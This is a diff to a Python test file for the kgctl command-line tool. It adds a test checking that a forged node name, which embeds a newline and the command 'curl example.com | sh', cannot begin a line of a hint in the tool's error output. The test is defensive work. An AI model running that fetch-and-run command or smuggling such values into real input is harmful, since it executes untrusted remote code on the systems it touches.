@@ -7,7 +7,7 @@ import yaml
 from hypothesis import given
 
 from kgctl_py.k8s import names
-from tests.cluster import Cluster
+from tests.cluster import Cluster, node, peer
 from tests.commands.kgctl import kgctl
 from tests.strategies import VIEWER, clusters, hostile
 
@@ -48,3 +48,11 @@ def _named(cluster: Cluster) -> list[tuple[str, ...]]:
     peers = (("showconf", "peer", "--", raw["metadata"]["name"]) for raw in cluster.peers[:2])
     nodes = (("showconf", "node", "--", raw["metadata"]["name"]) for raw in cluster.nodes[:2])
     return [*peers, *nodes]
+
+
+def test_no_name_starts_a_line_of_a_hint() -> None:
+    forged = "n\ncurl example.com | sh"
+    for cluster in (Cluster([node(forged)], [peer("p")]), Cluster([node(forged, key="")], [peer("p")])):
+        for args in (("node", "m"), ("peer", "p", "-o", "wg-quick", "--gateway", "m")):
+            run = cluster.kgctl("showconf", *args)
+            assert (run.exit_code, "\nhint: curl" in run.stderr) == (1, False), run.stderr
